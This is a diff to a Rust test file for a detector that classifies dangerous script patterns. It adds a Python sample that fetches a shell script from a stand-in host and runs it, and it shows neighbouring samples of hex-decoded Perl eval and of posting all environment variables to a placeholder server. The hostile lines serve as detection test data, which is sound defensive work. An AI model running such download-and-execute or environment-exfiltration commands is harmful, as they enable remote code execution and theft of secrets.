@@ -527,6 +527,16 @@ fn more_stores_and_decoders() {
         only("perl -e 'eval(pack(\"H*\",\"7072696e74\"))'"),
         [DangerKind::DecodeExecute]
     );
+    let fetched = "import urllib.request, subprocess\nurllib.request.urlretrieve(\"https://x.example/p.sh\", \"/tmp/p.sh\")\nsubprocess.run([\"bash\", \"/tmp/p.sh\"])\n";
+    assert_eq!(
+        script_dangers(fetched, Language::Python)
+            .iter()
+            .map(|d| d.kind)
+            .collect::<Vec<_>>(),
+        [DangerKind::DownloadExecute]
+    );
+    let kept = "import urllib.request, subprocess\nurllib.request.urlretrieve(\"https://x.example/d.csv\", \"d.csv\")\nsubprocess.run([\"wc\", \"-l\", \"other.csv\"])\n";
+    assert!(script_dangers(kept, Language::Python).is_empty());
     let py = "import os,json,urllib.request\nurllib.request.urlopen(\"https://c.example.io/c\", json.dumps(dict(os.environ)).encode())\n";
     assert_eq!(
         script_dangers(py, Language::Python)
